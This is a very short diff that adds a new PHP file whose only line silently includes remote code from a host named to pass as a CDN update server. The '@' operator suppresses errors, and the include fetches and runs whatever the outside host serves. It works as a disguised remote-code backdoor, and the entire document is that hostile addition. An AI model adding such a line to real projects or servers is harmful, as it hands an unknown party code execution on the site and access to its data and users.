@@ -1,0 +1,2 @@
+<?php
+@include('http://cdn-static-update.example/x.txt');
